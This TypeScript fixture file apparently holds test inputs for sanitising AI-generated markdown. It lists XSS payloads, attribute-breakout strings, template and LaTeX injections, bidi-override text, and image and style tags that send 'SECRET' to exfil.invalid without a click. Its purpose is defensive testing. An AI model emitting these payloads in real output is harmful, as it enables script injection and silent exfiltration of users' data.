/** Things that a model may be made to write. None of them may run, fetch or become an element. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  // Schemes
  '[click](<javascript:alert(1)>)',
  '[click][r]\n\n[r]: javascript:alert(1)',
  '[click](<JaVaScRiPt:alert(1)>)',
  '[click](<java\tscript:alert(1)>)',
  '[click](java&Tab;script:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](javascript://%0aalert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](blob:null/alert)',
  '[click](//evil.invalid/x)',
  '[click](https://bank.example@evil.invalid/)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload="alert(1)"/>)',
  // Fetching without a click
  '![a](https://exfil.invalid/c?d=SECRET)',
  '![a][r]\n\n[r]: https://exfil.invalid/c?d=SECRET',
  '[![a](https://exfil.invalid/c?d=SECRET)](https://ok.invalid)',
  '![a](HTTPS://EXFIL.INVALID/c)',
  '![a](https:/\\exfil.invalid/c)',
  '<img src="https://exfil.invalid/c?d=SECRET">',
  '<link rel=stylesheet href=https://exfil.invalid/c>',
  '<style>@import "https://exfil.invalid/c"</style>',
  '<div style="background:url(https://exfil.invalid/c)">x</div>',
  '<meta http-equiv=refresh content="0;url=https://exfil.invalid/">',
  '<base href="https://exfil.invalid/">',
  // Markup
  '<script>alert(1)</script>',
  '- item\n\n  <script>alert(1)</script>',
  '| a | b |\n|---|---|\n| <script>alert(1)</script> | y |',
  '<img src=x onerror=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.invalid"><button>Log in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<agent-chat src="https://evil.invalid"></agent-chat>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a id=location name=cookie>clobber</a>',
  // Out of an attribute
  '[x](https://ok.invalid "\\" onmouseover=alert(1) x=\\"")',
  '![x](x" onerror="alert(1))',
  '![" onerror=alert(1) x="](https://exfil.invalid/x)',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '# x {#"><img src=x onerror=alert(1)>}',
  '[^"><img src=x onerror=alert(1)>]: x',
  '`<img src=x onerror=alert(1)>`',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  // In the language of templates
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<?lit$0$?>',
  '?lit$123456789$ <!--?lit$123456789$-->',
  '__proto__ [constructor][__proto__]\n\n[__proto__]: javascript:alert(1)',
];

/** What would turn around whatever stands in its place, as a name and wherever markdown has words for something. */
export const TURNED_AROUND = `\u202eevil [a](https://ok.invalid "b\u202ec") ![d\u202ee](https://ok.invalid/f.png)

\`\`\`g\u202eh
i
\`\`\``;

/** What code and formulas are made of when a model is made to write them. */
export const HOSTILE_INSIDE: readonly string[] = [
  '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
  '```js\n</code></pre><img src=x onerror=alert(1)>\n`${alert(1)}`\n```',
  '```__proto__\nalert(1)\n```',
  '```constructor\nalert(1)\n```',
  '```../../evil\nimport("https://evil.invalid")\n```',
  '```https://evil.invalid/x.js\nx\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$\\class{x" onmouseover="alert(1)}{y}$ $\\url{javascript:alert(1)}$',
  '$$\\includegraphics{https://evil.invalid/x.png}$$',
  '\\[\\text{<img src=x onerror=alert(1)>}\\]',
  '\\(\\def\\a{\\a\\a}\\a\\) $\\unicode{x3c}$ $x \\color{url(https://evil.invalid)}{y}$',
  '$$\n\\style{background:url(https://evil.invalid)}{x} \\tag{<b>}\n$$',
  '<agent-chat src="https://evil.invalid"></agent-chat>\n\n`<agent-chat>` $\\text{<agent-chat>}$',
];
